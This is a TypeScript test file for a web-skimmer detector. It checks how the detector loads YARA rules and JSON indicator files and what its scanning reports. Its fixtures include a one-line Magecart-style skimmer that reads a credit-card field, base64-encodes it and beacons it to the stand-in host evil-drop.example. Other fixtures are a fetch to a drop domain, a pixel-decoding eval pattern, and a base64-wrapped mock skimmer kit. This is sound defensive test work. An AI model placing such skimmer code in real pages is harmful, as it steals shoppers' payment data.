import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { analyzeScript, compileSignatures } from '../../detector/index.ts'
import builtinYara from '../../detector/signatures/builtin-yara.json' with { type: 'json' }
import shippedIocs from '../../detector/signatures/default.json' with { type: 'json' }
import { iocFileSchema } from '../../detector/signatures/compile.ts'
import { loadSignatureDir, loadSignatures, readSignatureDir } from '../../pipeline/signatures.ts'

// A rule as published rule sets write them: plain strings, a regex, meta, a count condition.
const PUBLIC_RULE = `rule Magecart_Generic_Exfil_Hosts
{
    meta:
        description = "Generic Magecart exfil beacon"
        author = "someone else"
        severity = "critical"
        score = 75
    strings:
        $s1 = "evil-drop.example" ascii nocase
        $s2 = /cc_?number/ nocase
        $s3 = "btoa(" ascii
    condition:
        2 of ($s*)
}
`
const SAMPLE = `var x = 1\nvar u = 'https://EVIL-DROP.example/c'\nnew Image().src = u + btoa(document.querySelector('#cc_number').value)\n`

let dir = ''
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'skimwatch-sigs-'))
})
afterEach(async () => {
  await rm(dir, { recursive: true, force: true })
})

describe('the shipped IOC file', () => {
  // compiled without the schema at each start: it must already be what the schema makes of it
  it('is valid with every default written out', () => {
    expect(iocFileSchema().parse(shippedIocs)).toEqual(shippedIocs)
  })

  it('an operator file still goes through the schema', () => {
    const set = compileSignatures({ yara: [], json: [{ domains: [{ domain: 'not a host' }] }] })
    expect(set.errors.map((e) => e.message)).toEqual([
      expect.stringMatching(/domains\.0\.domain: a bare host name/),
    ])
  })
})

describe('signature directory', () => {
  it('a public-style YARA rule dropped in the directory becomes a finding with meta and position', async () => {
    await writeFile(join(dir, 'public.yar'), PUBLIC_RULE)
    const set = await loadSignatureDir(dir)
    expect(set.errors).toEqual([])
    const v = analyzeScript(SAMPLE, { signatures: set })
    const f = v.findings.find((x) => x.rule === 'yara:Magecart_Generic_Exfil_Hosts')
    expect(f).toMatchObject({ severity: 'critical', points: 75, line: 2, column: 17 })
    expect(f?.message).toContain('public.yar')
    // with the shipped files, everything compiles into one scanner and each rule keeps its file
    const merged = await loadSignatures(dir)
    expect(merged.yara).toHaveLength(1)
    expect(merged.yaraRules).toContain('Magecart_Generic_Exfil_Hosts')
    expect(merged.yaraRules.length).toBeGreaterThan(set.yaraRules.length)
    const m = analyzeScript(SAMPLE, { signatures: merged }).findings
    expect(m.find((x) => x.rule === 'yara:Magecart_Generic_Exfil_Hosts')?.message).toContain(
      '(public.yar)',
    )
    expect(analyzeScript('var a = 1', { signatures: set }).findings).toEqual([])
  })

  it('defaults severity high and 60 points when a rule has no meta', async () => {
    await writeFile(join(dir, 'bare.yara'), 'rule bare { strings: $a = "zzqqxx" condition: $a }')
    const v = analyzeScript('var s = "zzqqxx"', { signatures: await loadSignatureDir(dir) })
    expect(v.findings.find((f) => f.rule === 'yara:bare')).toMatchObject({
      severity: 'high',
      points: 60,
    })
  })

  it('a broken YARA file is reported with its name and line; the other files still work', async () => {
    await writeFile(join(dir, 'a-good.yar'), PUBLIC_RULE)
    await writeFile(
      join(dir, 'b-broken.yar'),
      'rule b {\n  strings: $a = "x"\n  condition: $a and $nope\n}',
    )
    await writeFile(join(dir, 'c-bad.json'), '{ not json')
    await writeFile(
      join(dir, 'd-wrong.json'),
      JSON.stringify({ domains: [{ domain: 'not a host!' }] }),
    )
    const set = await loadSignatureDir(dir)
    const broken = set.errors.find((e) => e.file === 'b-broken.yar')
    expect(broken).toMatchObject({ line: 3 })
    expect(broken?.message).toMatch(/unknown pattern/)
    expect(set.errors.map((e) => e.file).sort()).toEqual([
      'b-broken.yar',
      'c-bad.json',
      'd-wrong.json',
    ])
    expect(set.yaraRules).toEqual(['Magecart_Generic_Exfil_Hosts'])
  })

  it('JSON IOCs: domains, hashes and AST patterns', async () => {
    const hashed = 'var z = 42'
    const { sha256 } = await import('../../core/hash.ts')
    await writeFile(
      join(dir, 'iocs.json'),
      JSON.stringify({
        domains: [{ domain: 'drop-zone.example', family: 'test-family' }],
        sha256: [{ sha256: sha256(hashed), family: 'hash-family' }],
        patterns: [
          {
            id: 'pixels-to-eval',
            family: 'stego',
            description: 'pixels decoded and evaluated',
            points: 50,
            ast: [{ call: '^getImageData$' }, { call: '^fromCharCode$' }, { call: '^eval$' }],
          },
        ],
      }),
    )
    const set = await loadSignatureDir(dir)
    expect(set.errors).toEqual([])
    const rule = (src: string): string[] =>
      analyzeScript(src, { signatures: set })
        .findings.filter((f) => f.rule === 'known-bad-signature')
        .map((f) => f.message)
    expect(rule("fetch('https://cdn.drop-zone.example/x')")[0]).toContain('test-family')
    expect(rule(hashed)[0]).toContain('hash-family')
    expect(
      rule('var d = c.getImageData(0,0,9,9).data; eval(String.fromCharCode(d[0], d[4]))')[0],
    ).toContain('pixels-to-eval')
    expect(rule('c.getImageData(0,0,1,1)')).toEqual([])
  })

  it('reloading the directory picks up a new file and changes the set version', async () => {
    await writeFile(join(dir, 'one.yar'), 'rule one { strings: $a = "alpha-marker" condition: $a }')
    const first = await loadSignatureDir(dir)
    await writeFile(join(dir, 'two.yar'), 'rule two { strings: $a = "beta-marker" condition: $a }')
    const second = await loadSignatureDir(dir)
    expect(second.version).not.toBe(first.version)
    const src = 'var s = "beta-marker"'
    expect(analyzeScript(src, { signatures: first }).findings.map((f) => f.rule)).not.toContain(
      'yara:two',
    )
    expect(analyzeScript(src, { signatures: second }).findings.map((f) => f.rule)).toContain(
      'yara:two',
    )
  })

  it('the embedded built-in YARA set matches detector/signatures/rules (run scripts/build-signatures.ts)', async () => {
    const files = await readSignatureDir(
      join(import.meta.dirname, '../../detector/signatures/rules'),
    )
    expect(builtinYara).toEqual(files.yara)
    expect(compileSignatures({ yara: files.yara, json: [] }).errors).toEqual([])
  })

  it('a YARA match in a decoded layer is reported at the decoding expression', () => {
    const inner =
      "var Gate={SaveParam:function(){},SendData:function(){},GetCCInfo:function(){}};Gate.Data['x']=1"
    const src = `var a = 1\n  eval(atob('${Buffer.from(inner).toString('base64')}'))\n`
    const f = analyzeScript(src).findings.find((x) => x.rule === 'yara:skimmer_inter_kit')
    expect(f?.message).toContain('decoded layer')
    expect(f?.line).toBe(2)
  })
})
